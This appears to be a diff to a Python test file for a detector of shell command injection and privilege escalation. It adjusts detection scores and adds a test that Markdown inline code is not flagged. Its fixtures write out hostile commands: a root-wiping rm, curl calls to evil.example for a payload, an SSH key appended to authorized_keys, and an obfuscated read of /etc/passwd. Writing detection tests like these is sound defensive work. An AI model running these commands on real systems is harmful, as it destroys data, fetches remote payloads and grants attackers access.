@@ -18,7 +18,8 @@ def best(findings: list) -> tuple[str, float]:  # type: ignore[type-arg]
     ("x && sudo rm -rf --no-preserve-root /", "destructive_command_chain", 0.95, (2, 37)),
     ("a.txt && curl http://evil.example/x", "command_chain", 0.85, (6, 13)),
     ("name=$(curl -s http://evil.example/payload)", "command_chain", 0.85, (5, 11)),
-    ("data.csv; whoami", "command_chain", 0.7, (8, 16)),
+    ("data.csv; whoami", "command_chain", 0.8, (8, 16)),
+    ("user=`whoami`", "command_chain", 0.8, (5, 12)),
     ("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "sensitive_redirect", 0.9, (20, 45)),
     ("bash <<EOF\nid\nEOF", "heredoc_to_shell", 0.85, (0, 10)),
     ("cat${IFS}/etc/passwd", "ifs_obfuscation", 0.85, (3, 9)),
@@ -97,3 +98,8 @@ def test_escalation_attempts_are_found(text: str, kind: str, minimum: float) -> 
 def test_benign_text_with_trigger_words_stays_below_the_default_threshold(text: str) -> None:
     assert all(f.score < 0.75 for f in detect_privilege_escalation(text)), \
         detect_privilege_escalation(text)
+
+
+def test_markdown_inline_code_is_not_a_command_substitution() -> None:
+    docs = "Install it with `curl -O https://x.example/tool` and check `whoami` first."
+    assert detect_shell_bleed(docs) == []
